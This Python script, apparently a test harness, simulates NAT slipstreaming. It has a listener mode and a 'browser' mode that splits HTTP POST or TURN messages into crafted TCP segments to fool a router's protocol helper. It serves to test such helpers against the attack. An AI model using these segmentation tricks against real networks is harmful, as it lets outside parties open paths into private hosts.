#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""NAT slipstreaming: an outside web page makes an inside browser say what a protocol helper believes.

  slipstream.py attacker FILE PORT...           takes connections at these ports; FILE has what came by
                                                the last; prints "ready"
  slipstream.py browser ADDRESS PORT WAY TEXT   sends TEXT (with \\r, \\n, \\1 escaped), in that way:
      honest   as a client of the protocol would: nothing before it, and a segment begins at its
               second line
      body     a form whose body it is, all in one segment
      cut      the same, and a segment begins where it does, as a page can have it by padding
      bytes    the same, and each byte of it has a segment of its own
      long     a line of 20000 bytes, and it behind them in a segment of its own
      turn     the name of a user of a TURN server (RFC 5766), cut likewise: no word of HTTP
"""
import os
import selectors
import socket
import struct
import sys
import time

PATIENCE = float(os.environ["PATIENCE"])
PAUSE = 0.02  # so that what is sent next is a segment of its own
ALLOCATE, MAGIC, USERNAME = 3, 0x2112A442, 6


def attacker(path, *ports):
    waiting = selectors.DefaultSelector()
    for port in ports:
        waiting.register(socket.create_server(("", int(port))), selectors.EVENT_READ)
    print("ready", flush=True)
    while True:
        for key, _ in waiting.select():
            connection, _ = key.fileobj.accept()
            connection.settimeout(PATIENCE)
            data = b""
            try:
                while more := connection.recv(65536):
                    data += more
            except socket.timeout:
                data += b"(no end)"
            with open(path, "wb") as file:
                file.write(data)
            connection.close()  # the browser waits for that


def form(address, body):
    return (f"POST / HTTP/1.1\r\nHost: {address}\r\nContent-Type: text/plain\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()


def pieces(way, address, text):
    if way == "honest":
        return [text[:text.index(b"\n") + 1], text[text.index(b"\n") + 1:]]
    if way == "turn":
        name = b"x" * 500 + b"\r\n" + text
        head = struct.pack("!HHI12sHH", ALLOCATE, len(name) + 4, MAGIC, b"transaction.", USERNAME, len(name))
        return [head + name[:-len(text)], text]
    head = form(address, text)
    if way == "body":
        return [head + text]
    if way == "cut":
        return [head, text]
    if way == "bytes":
        return [head, *(text[i:i + 1] for i in range(len(text)))]
    if way == "long":
        return [form(address, b"x" * 20000 + text), b"x" * 20000, text]
    sys.exit(f"no such way: {way}")


def browser(address, port, way, text):
    connection = socket.create_connection((address, int(port)), PATIENCE)
    connection.settimeout(PATIENCE)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in pieces(way, address, text.encode().decode("unicode_escape").encode("latin-1")):
        connection.sendall(piece)
        time.sleep(PAUSE if way != "bytes" else PAUSE / 10)
    connection.shutdown(socket.SHUT_WR)
    connection.recv(1)


{"attacker": attacker, "browser": browser}[sys.argv[1]](*sys.argv[2:])
